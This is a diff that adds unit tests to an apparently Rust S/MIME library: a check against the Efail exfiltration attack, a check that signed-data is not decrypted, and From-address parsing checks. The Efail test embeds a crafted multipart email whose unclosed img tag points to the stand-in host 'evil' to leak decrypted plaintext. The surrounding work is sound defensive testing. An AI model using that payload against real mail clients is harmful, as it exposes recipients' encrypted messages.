@@ -183,3 +183,35 @@ pub fn encrypt_message(
     mime::push_pkcs7_mime_entity(&mut out, smime_type, &der_bytes);
     Ok(out)
 }
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+
+    #[test]
+    fn encrypted_part_inside_a_multipart_is_refused() {
+        // Efail direct exfiltration: plaintext parts around an encrypted one.
+        let m = b"From: a@b\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--x\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQA=\r\n--x--\r\n";
+        assert!(matches!(decrypt_message(m, &[]), Err(Error::WrongType(_))));
+    }
+
+    #[test]
+    fn signed_data_is_not_decrypted() {
+        let m = b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n";
+        assert!(matches!(decrypt_message(m, &[]), Err(Error::WrongType(_))));
+    }
+
+    #[test]
+    fn from_addresses() {
+        assert_eq!(
+            verify::from_address("Alice <Alice@Example.org>").as_deref(),
+            Some("alice@example.org")
+        );
+        assert_eq!(
+            verify::from_address("bob@example.org").as_deref(),
+            Some("bob@example.org")
+        );
+        assert_eq!(verify::from_address("undisclosed"), None);
+    }
+}
